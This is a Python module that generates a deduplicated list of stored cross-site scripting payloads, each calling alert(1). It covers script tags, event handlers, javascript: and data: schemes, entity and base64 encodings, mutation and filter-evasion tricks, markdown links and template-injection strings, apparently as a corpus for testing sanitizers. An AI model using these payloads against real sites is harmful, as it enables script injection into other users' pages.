"""Two hundred and more ways to make a page run a script that somebody stored in it; each calls alert."""

from __future__ import annotations

import base64
from collections.abc import Iterator

RUN = "alert(1)"
ENTITIES = "".join(f"&#{ord(letter)};" for letter in RUN)
HEXADECIMAL = "".join(f"&#x{ord(letter):x};" for letter in RUN)
ESCAPED = "\\u0061lert(1)"
INDIRECT = "top['al'+'ert'](1)"
CALLS = (RUN, ENTITIES, HEXADECIMAL, ESCAPED, INDIRECT, "alert`1`", "(alert)(1)", "window.alert&lpar;1&rpar;")

EVENTS = (
    ("img", "src=x", "onerror"), ("img", "src=data:image/gif;base64,R0lGODlhAQABAAAAACw=", "onload"),
    ("body", "", "onload"), ("svg", "", "onload"), ("video", "src=x", "onerror"), ("audio", "src=x", "onerror"),
    ("input", "autofocus", "onfocus"), ("select", "autofocus", "onfocus"), ("textarea", "autofocus", "onfocus"),
    ("button", "autofocus", "onfocus"), ("details", "open", "ontoggle"), ("marquee", "", "onstart"),
    ("iframe", "src=about:blank", "onload"), ("object", "data=x", "onerror"), ("embed", "src=x", "onload"),
    ("link", "rel=stylesheet href=x", "onerror"), ("style", "", "onload"), ("p", "", "onmouseover"),
    ("div", "", "onpointerenter"), ("a", "href=#", "onclick"), ("b", "contenteditable", "onfocus"),
    ("blockquote", "tabindex=0", "onfocusin"), ("li", "", "onmouseenter"), ("h1", "", "onanimationstart"),
)  # fmt: skip

SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "\tjavascript:{}", "java\tscript:{}", "java\nscript:{}",
    "javascript&colon;{}", "&#106;avascript:{}", "javascript:%61lert(1)//{}", "javascript://%0a{}", "vbscript:{}",
    "data:text/html,<script>{}</script>", "\x01javascript:{}", "javascript\x0b:{}", "//javascript:{}",
    "feed:javascript:{}", "view-source:javascript:{}", "blob:javascript:{}", "jav&#x0A;ascript:{}",
)  # fmt: skip

HOLDERS = (
    '<a href="{}">x</a>', "<a href='{}'>x</a>", "<a href={}>x</a>", '<form action="{}"><button>x</button></form>',
    '<iframe src="{}"></iframe>', '<base href="{}">', '<math><a xlink:href="{}">x</a></math>',
)  # fmt: skip

PLAIN = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script\n>{}</script\n>", "<scr<script>ipt>{}</scr</script>ipt>",
    "<script/x>{}</script>", "<script>/*<p>*/{}/*</p>*/</script>", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>",
    "<![CDATA[<script>{}</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<template><img src=x onerror={}></template>",
    "<svg><script>{}</script></svg>", "<svg><script href=data:,{} /></svg>", "<math><mi><style><img src=x onerror={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set onbegin={} attributeName=x>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror={} />#x\">",
    "<iframe srcdoc=\"<script>parent.{}</script>\"></iframe>",
    "<object data=\"data:text/html,<script>{}</script>\"></object>",
    "<embed src=\"data:text/html,<script>{}</script>\">", "<meta http-equiv=refresh content=\"0;url=javascript:{}\">",
    "<link rel=import href=\"data:text/html,<script>{}</script>\">", "<style>@import 'javascript:{}';</style>",
    "<p style=\"background:url(javascript:{})\">x</p>", "<p style=\"width:expression({})\">x</p>",
    "<xss onafterscriptexecute={}><script>1</script>", "<img \"\"\"><script>{}</script>\">", "<<script>{}//<</script>",
    "<img src=x onerror\n=\n{}>", "<img/src=x/onerror={}>", "<img src=`x` onerror={}>", "<img src='x'onerror={}>",
    "<img src=x onerror={}//", "<a href=\"https://x.example\" onmouseover={}>x</a>",
    "<p><b><i onclick={}>x</p></b></i>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={}&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror={}>\">", "<p id=x name=attributes onfocus={} tabindex=1>x</p>",
    "![x](javascript:{})", "[x](javascript:{})", "<javascript:{}>", "[x]: javascript:{}\n\n[x]",
    "[x](<javascript:{}>)", "**<script>{}</script>**", "`<script>{}</script>`", "\\<script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;", "&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;", "%3Cscript%3E{}%3C/script%3E",
    "\u202e<script>{}</script>", "\ufeff<script>{}</script>", "＜script＞{}＜/script＞", "<scrıpt>{}</scrıpt>",
    "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "<%= {} %>", "'\"><script>{}</script>", "';{};//", "\";{};//",
)  # fmt: skip


def payloads() -> list[str]:
    """Each once, in the same order every time."""
    return list(dict.fromkeys(_payloads()))


def _payloads() -> Iterator[str]:
    yield from (template.format(RUN) for template in PLAIN)
    for number, (element, attributes, event) in enumerate(EVENTS):
        for call in (RUN, CALLS[number % len(CALLS)], CALLS[(number + 3) % len(CALLS)]):
            yield f'<{element} {attributes} {event}="{call}">x</{element}>'
            yield f"<{element.upper()} {attributes} {event.upper()}={call}>"
    for number, scheme in enumerate(SCHEMES):
        for holder in (HOLDERS[0], HOLDERS[1 + number % (len(HOLDERS) - 1)]):
            yield holder.format(scheme.format(RUN))
    document = base64.b64encode(f"<script>parent.{RUN}</script>".encode()).decode()
    yield f'<iframe src="data:text/html;base64,{document}"></iframe>'
    yield f'<a href="data:text/html;base64,{document}">x</a>'
